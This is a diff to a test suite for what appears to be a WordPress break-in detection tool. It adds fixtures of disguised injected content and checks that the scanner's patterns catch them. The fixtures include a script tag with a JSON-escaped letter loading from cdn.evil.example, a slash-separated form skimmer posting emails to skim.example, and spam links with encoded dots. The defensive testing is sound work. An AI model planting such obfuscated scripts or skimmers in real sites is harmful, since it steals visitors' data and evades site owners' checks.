@@ -168,6 +168,17 @@ const INJECTED_DISGUISED = {
     value: '<style>@import url(https://cdn.evil.example/y.css);</style>',
     missed: 'a stylesheet imported from elsewhere',
   },
+  // A page builder's JSON with one letter of the tag as an escape (review r132a F1), and a form with / for its space (F3)
+  jsonEscapedLetter: {
+    name: 'wpc_builder_block',
+    value: '{"html":"\\u003c\\u0073cript src=https://cdn.evil.example/z.js>\\u003c/script>"}',
+    missed: 'a script whose s is a JSON escape',
+  },
+  slashForm: {
+    name: 'wpc_newsletter',
+    value: '<form/action="https://skim.example/n"><input name="email"></form>',
+    missed: 'a form with / after its name',
+  },
 };
 /**
  * PHP kept in the database (review r59 H1): a Code Snippets table (the plugin's Code_Snippets_DB registers
@@ -328,7 +339,7 @@ const SMALL_PRINT_PAGE = {
 const LINKED_SPAM_PAGE = {
   page: 'Our clients',
   content:
-    '<a href="https://clear-casino.example/" style="color:transparent">casino</a> <a href="https://www.example.com/contact/">Contact</a> <a href="HTTPS://EXAMPLE.COM/">Home</a> <a href="https:&#47;&#47;entity-loans.example/" style="color:#fff">loans</a> <a href="https://example.com@decoy-loans.example/">Partners</a> <a href="http:bare-loans.example/">Offers</a> <a href="https://wide-loans。example/">Deals</a> <a href="https://coded-loans%2eexample/">Rates</a> <a href="http://3232235777/">More</a>',
+    '<a href="https://clear-casino.example/" style="color:transparent">casino</a> <a href="https://www.example.com/contact/">Contact</a> <a href="HTTPS://EXAMPLE.COM/">Home</a> <a href="https:&#47;&#47;entity-loans.example/" style="color:#fff">loans</a> <a href="https://example.com@decoy-loans.example/">Partners</a> <a href="http:bare-loans.example/">Offers</a> <a href="https://wide-loans。example/">Deals</a> <a href="https://coded-loans%2eexample/">Rates</a> <a href="http://3232235777/">More</a> <a href="https://dot-loans&#46;example/">Loans</a>',
 };
 /**
  * A link as Elementor stores it (review r128a M1): its data is JSON with every slash escaped (\/), and the widget
@@ -337,7 +348,8 @@ const LINKED_SPAM_PAGE = {
 const LINKED_SPAM_JSON = {
   post: 2,
   key: '_elementor_data',
-  value: '[{"settings":{"editor":"<a href=\\"https:\\/\\/json-pills.example\\/\\">pills<\\/a>","hide_desktop":"hidden-desktop"}}]',
+  value:
+    '[{"settings":{"editor":"<a href=\\"https:\\/\\/json-pills.example\\/\\">pills<\\/a> <a href=\\"https:\\/\\/json-dot\\u002eexample\\/\\">deals<\\/a>","hide_desktop":"hidden-desktop"}}]',
 };
 const LINKED_SPAM_OPTION = {name: 'wpc_sidebar_links', value: '<a href="https://tiny-pills.example/" style="font-size:2px">pills</a>'};
 const LINKED_SPAM_META = {
@@ -384,6 +396,12 @@ const LINKED_SPAM = [
   },
   {domain: 'coded-loans.example', place: 'page:\\d+', how: `a host with its dot written %2e on the page "${LINKED_SPAM_PAGE.page}"`},
   {domain: '3232235777', place: 'page:\\d+', how: `an IP address written as one number on the page "${LINKED_SPAM_PAGE.page}"`},
+  {domain: 'dot-loans.example', place: 'page:\\d+', how: `a host with its dot written &#46; on the page "${LINKED_SPAM_PAGE.page}"`},
+  {
+    domain: 'json-dot.example',
+    place: `postmeta:${LINKED_SPAM_JSON.post}`,
+    how: `a host with its dot written \\u002e in ${LINKED_SPAM_JSON.key}`,
+  },
 ];
 /** Custom HTML widgets (a serialized option): the script in instance 2, which step 5 empties, and instance 3 to keep. */
 const INJECTED_WIDGETS = {'2': {title: '', content: INJECTED}, '3': {title: 'Hours', content: 'Open 9 to 5'}, _multiwidget: 1};
@@ -1180,7 +1198,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     ctx.expect(
       missedDisguised.length === 0,
       LOADING_CHECKS,
-      `the searches also find a handler stuck to a quoted attribute in the option ${INJECTED_DISGUISED.quotedHandler.name}, one after a > inside a quoted value in ${INJECTED_DISGUISED.gtInValue.name}, &#106 without its semicolon in ${INJECTED_DISGUISED.entityNoSemicolon.name}, jav&#x61;script: in ${INJECTED_DISGUISED.entityLaterLetter.name}, java&#9;script: in ${INJECTED_DISGUISED.entityTab.name}, jav(tab)ascript: in ${INJECTED_DISGUISED.rawTab.name}, twelve tabs in ${INJECTED_DISGUISED.manyTabs.name}, a form posting elsewhere in ${INJECTED_DISGUISED.formSkimmer.name} and a stylesheet from elsewhere, linked in ${INJECTED_DISGUISED.linkedStylesheet.name} and imported in ${INJECTED_DISGUISED.importedStylesheet.name}`,
+      `the searches also find a handler stuck to a quoted attribute in the option ${INJECTED_DISGUISED.quotedHandler.name}, one after a > inside a quoted value in ${INJECTED_DISGUISED.gtInValue.name}, &#106 without its semicolon in ${INJECTED_DISGUISED.entityNoSemicolon.name}, jav&#x61;script: in ${INJECTED_DISGUISED.entityLaterLetter.name}, java&#9;script: in ${INJECTED_DISGUISED.entityTab.name}, jav(tab)ascript: in ${INJECTED_DISGUISED.rawTab.name}, twelve tabs in ${INJECTED_DISGUISED.manyTabs.name}, a form posting elsewhere in ${INJECTED_DISGUISED.formSkimmer.name} and a stylesheet from elsewhere, linked in ${INJECTED_DISGUISED.linkedStylesheet.name} and imported in ${INJECTED_DISGUISED.importedStylesheet.name}, \\u0073cript in ${INJECTED_DISGUISED.jsonEscapedLetter.name} and <form/ in ${INJECTED_DISGUISED.slashForm.name}`,
       () => `the searches for injected code missed ${missedDisguised.join(', ')}:\n${loaded}`,
     );
     ctx.expect(
@@ -1653,13 +1671,25 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
       ref: LOADING_CHECKS,
       edit: replace(/^links wp_\n/m, ''),
       expect:
-        /did not list the domains clear-casino\.example, tiny-pills\.example, under-loans\.example, reader-pharma\.example, json-pills\.example, entity-loans\.example, decoy-loans\.example, bare-loans\.example, wide-loans\.example, coded-loans\.example, 3232235777:/,
+        /did not list the domains clear-casino\.example, tiny-pills\.example, under-loans\.example, reader-pharma\.example, json-pills\.example, entity-loans\.example, decoy-loans\.example, bare-loans\.example, wide-loans\.example, coded-loans\.example, 3232235777, dot-loans\.example, json-dot\.example:/,
     },
     {
       what: "read a link's host at the start of its address, user part and all (before review r129a M2)",
       ref: LOADING_CHECKS,
       edit: (text) => text.replaceAll(`(?:[^/?#[:space:]"''<>]*@)?`, ''),
       expect: /did not list the domains decoy-loans\.example:/,
+    },
+    {
+      what: 'search without letters written as JSON escapes (before review r132a F1)',
+      ref: LOADING_CHECKS,
+      edit: replace('|u00([46][1-9a-f]|[57][0-9a])', ''),
+      expect: /the searches for injected code missed a script whose s is a JSON escape in wpc_builder_block:/,
+    },
+    {
+      what: 'take a form, base or link tag only before a space or > (before review r132a F3)',
+      ref: LOADING_CHECKS,
+      edit: replace('[[:space:]>/]|data:text/html|<link[[:space:]/]', '[[:space:]>]|data:text/html|<link[[:space:]]'),
+      expect: /the searches for injected code missed a form with \/ after its name in wpc_newsletter:/,
     },
     {
       what: 'read a host only after // (before review r131a M1)',
@@ -1670,8 +1700,8 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
     {
       what: 'read a host only with ASCII dots, written as they are (before review r131a M1)',
       ref: LOADING_CHECKS,
-      edit: (text) => text.replace('REGEXP_REPLACE(', '').replace(/,\n {2}CONCAT\('\(\?i\)%2e\|'.*\n/, ',\n'),
-      expect: /did not list the domains wide-loans\.example, coded-loans\.example:/,
+      edit: (text) => text.replace('REGEXP_REPLACE(', '').replace(/,\n {2}CONCAT\('\(\?i\)%2e\|.*\n/, ',\n'),
+      expect: /did not list the domains wide-loans\.example, coded-loans\.example, dot-loans\.example, json-dot\.example:/,
     },
     {
       what: 'read only hosts with a dot, not an IP address written as one number (before review r131a M1)',
@@ -1693,7 +1723,7 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
       ref: LOADING_CHECKS,
       edit: (text) =>
         text.replace(/REGEXP_REPLACE\((CAST\(t\.body AS BINARY\)), CONCAT\('\[', CHAR\(92\)[^\n]*\n {2}'[^\n]*?'\/'\), /, '$1, '),
-      expect: /did not list the domains json-pills\.example, entity-loans\.example:/,
+      expect: /did not list the domains json-pills\.example, entity-loans\.example, json-dot\.example:/,
     },
     {
       what: "compare each domain with the site's own without taking www off",
@@ -1704,7 +1734,7 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
     {
       what: 'search for injected code without stylesheets from elsewhere (before review r127a L2)',
       ref: LOADING_CHECKS,
-      edit: replace('|<link[[:space:]]|@import', ''),
+      edit: replace('|<link[[:space:]/]|@import', ''),
       expect: /missed a stylesheet linked from elsewhere in wpc_head_styles, a stylesheet imported from elsewhere in wpc_inline_styles:/,
     },
     {
@@ -1795,8 +1825,8 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
     {
       what: 'leave forms out of the content pattern (before review r122a M3)',
       ref: LOADING_CHECKS,
-      edit: replace('<(object|embed|base|form)[[:space:]>]', '<(object|embed|base)[[:space:]>]'),
-      expect: /missed a form posting elsewhere in wpc_checkout:/,
+      edit: replace('<(object|embed|base|form)[[:space:]>/]', '<(object|embed|base)[[:space:]>/]'),
+      expect: /missed a form posting elsewhere in wpc_checkout, a form with \/ after its name in wpc_newsletter:/,
     },
     {
       what: 'search for a first letter j written as a reference only (the pattern before review r115a F1)',
